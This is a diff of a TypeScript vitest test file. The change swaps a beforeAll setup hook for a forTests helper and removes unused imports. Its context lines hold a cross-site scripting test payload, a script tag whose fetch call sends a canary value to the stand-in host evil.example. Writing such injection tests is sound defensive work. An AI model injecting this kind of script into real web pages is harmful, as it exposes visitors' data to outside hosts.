@@ -7,18 +7,15 @@ import { forTests } from "@turnpike/net/testing/for-tests.ts";
 import { sql } from "kysely";
 import { sized } from "@turnpike/net/testing/full.ts";
 import { documentPartBytes } from "@turnpike/rules/identity-document.ts";
-import { beforeAll, describe, expect, it } from "vitest";
-import { type Person, startTestConsole } from "../../across/console/testing.ts";
+import { describe, expect, it } from "vitest";
+import { startTestConsole } from "../../across/console/testing.ts";
 import { operate } from "../../across/operator/testing.ts";
 
 const CANARY = "CANARY-7f3d9a52";
 const SCRIPT = `<script>fetch("https://evil.example/${CANARY}")</script>`;
 
 const api = forTests(startTestConsole);
-let support: Person;
-beforeAll(async () => {
-  support = await api.person("support");
-});
+const support = forTests(() => api.person("support"));
 
 interface Answer {
   code: number;
